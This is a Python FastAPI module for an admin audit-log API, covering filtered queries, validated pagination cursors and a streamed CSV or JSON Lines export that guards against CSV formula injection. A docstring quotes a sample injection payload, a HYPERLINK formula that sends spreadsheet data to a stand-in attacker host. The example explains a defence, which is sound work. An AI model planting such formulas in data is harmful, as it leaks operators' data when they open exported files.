"""``/api/v1/audit-logs`` (admin): query with the §11 filters, page by cursor, export streamed."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Annotated, Any, Literal

from fastapi import APIRouter, Depends, Query, Request
from fastapi.responses import StreamingResponse
from pydantic import BeforeValidator

from thallus.errors import ECHO_CHARS, ThallusError, invalid_field
from thallus.server.api.deps import AdminDep
from thallus.server.api.responses import AUTHENTICATED, error_responses
from thallus.server.audit.chain import FIELDS, timestamp
from thallus.server.audit.store import AuditFilter, AuditStore
from thallus.server.storage.models import AuditLog

router = APIRouter(prefix="/api/v1/audit-logs", tags=["audit"], responses=error_responses(*AUTHENTICATED, 404))

MAX_PAGE = 1000
EXPORT_CHUNK = 1000


async def store(request: Request) -> AuditStore:
    audit_store: AuditStore | None = getattr(request.app.state, "audit_store", None)
    if audit_store is None:
        raise ThallusError("The persistent audit log is turned off (THALLUS_AUDIT_ENABLED=false).", status_code=404)
    return audit_store


StoreDep = Annotated[AuditStore, Depends(store)]


def _iso_8601(value: Any) -> Any:
    """An ISO 8601 date or date-time only: pydantic's lax mode would take ``0`` or ``1.5`` as Unix
    time, which the documented ``date-time`` format does not allow (and nobody means)."""
    if isinstance(value, str) and value.strip().lstrip("+-").replace(".", "", 1).isdigit():
        raise ValueError("must be an ISO 8601 date or date-time, e.g. 2026-01-31T12:00:00Z")
    return value


IsoDateTime = Annotated[datetime, BeforeValidator(_iso_8601)]


async def filters(
    *,
    user_id: str | None = None,
    action: str | None = None,
    actions: Annotated[str | None, Query(description="comma-separated actions")] = None,
    outcome: Literal["success", "failure", "partial", "denied"] | None = None,
    correlation_id: str | None = None,
    resource_type: str | None = None,
    resource_id: str | None = None,
    start_date: IsoDateTime | None = None,
    end_date: IsoDateTime | None = None,
) -> AuditFilter:
    wanted = [action] if action else []
    if actions:
        wanted += [item.strip() for item in actions.split(",") if item.strip()]
    return AuditFilter(
        user_id=user_id,
        actions=tuple(dict.fromkeys(wanted)),
        outcome=outcome,
        correlation_id=correlation_id,
        resource_type=resource_type,
        resource_id=resource_id,
        start=_aware(start_date),
        end=_aware(end_date),
    )


FilterDep = Annotated[AuditFilter, Depends(filters)]


def _aware(value: datetime | None) -> datetime | None:
    from thallus.server.identity.service import utc

    return utc(value) if value is not None else None


def record_document(row: AuditLog) -> dict[str, Any]:
    document = {name: getattr(row, name) for name in FIELDS}
    document["created_at"] = timestamp(row.created_at)
    document["seq"] = row.seq
    return document


def encode_cursor(seq: int) -> str:
    return base64.urlsafe_b64encode(json.dumps({"before": seq}).encode()).decode().rstrip("=")


#: ``seq`` is a 64-bit integer: a larger cursor names no record (and would overflow the query).
MAX_SEQ = 2**63 - 1
MAX_CURSOR_LENGTH = 64


def decode_cursor(cursor: str) -> int:
    """The ``seq`` a cursor names, or a 422 for anything this API did not return."""
    value: Any = None
    if len(cursor) <= MAX_CURSOR_LENGTH:
        try:
            padded = cursor + "=" * (-len(cursor) % 4)
            value = json.loads(base64.urlsafe_b64decode(padded.encode()))["before"]
        except (ValueError, KeyError, TypeError, RecursionError):
            value = None
    if isinstance(value, bool) or not isinstance(value, int) or not 1 <= value <= MAX_SEQ:
        raise invalid_field(("query", "cursor"), "not a cursor this API returned", cursor[:ECHO_CHARS])
    return value


@router.get("", summary="Audit records, newest first (admin)")
async def list_audit_logs(
    admin: AdminDep,
    audit: StoreDep,
    query: FilterDep,
    limit: Annotated[int, Query(ge=1, le=MAX_PAGE)] = 100,
    cursor: str | None = None,
) -> dict[str, Any]:
    before = decode_cursor(cursor) if cursor else None
    rows = await audit.query(query, limit=limit + 1, before_seq=before)
    page = rows[:limit]
    more = len(rows) > limit
    return {
        "items": [record_document(row) for row in page],
        "next_cursor": encode_cursor(page[-1].seq) if more else None,
    }


@router.get(
    "/export",
    summary="Every matching record, oldest first, streamed as CSV or JSON Lines (admin)",
    response_class=StreamingResponse,
    responses={200: {"content": {"application/x-ndjson": {}, "text/csv": {}}, "description": "the records"}},
)
async def export_audit_logs(
    admin: AdminDep,
    audit: StoreDep,
    query: FilterDep,
    format: Literal["csv", "jsonl"] = "jsonl",
) -> StreamingResponse:
    media_type = "text/csv; charset=utf-8" if format == "csv" else "application/x-ndjson"
    filename = f"audit-logs.{format}"
    return StreamingResponse(
        export_lines(audit, query, format),
        media_type=media_type,
        headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"},
    )


#: What a spreadsheet reads as a formula (or a field separator) at the start of a cell (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """A CSV cell that no spreadsheet evaluates: text beginning with ``= + - @``, a tab or a carriage
    return is prefixed with ``'`` (OWASP's advice; Excel and LibreOffice show it as text). A
    user agent such as ``=HYPERLINK("https://evil.example/?x="&A2,"Details")`` would otherwise run
    when an operator opens the export. JSON Lines stays exactly as stored."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


async def export_lines(audit: AuditStore, query: AuditFilter, format: str) -> AsyncIterator[bytes]:
    """The export, one page of records at a time (constant memory whatever the size)."""
    columns = ["seq", *FIELDS, "prev_hash", "hash"]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if format == "csv":
        writer.writerow(columns)
    async for row in audit.stream(query, chunk=EXPORT_CHUNK):
        document = {**record_document(row), "prev_hash": row.prev_hash, "hash": row.hash}
        if format == "csv":
            details = document["details"]
            document["details"] = json.dumps(details, sort_keys=True) if details is not None else ""
            writer.writerow([spreadsheet_safe(document[name]) for name in columns])
        else:
            buffer.write(json.dumps(document, sort_keys=True, default=str) + "\n")
        if buffer.tell() > 64 * 1024:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()
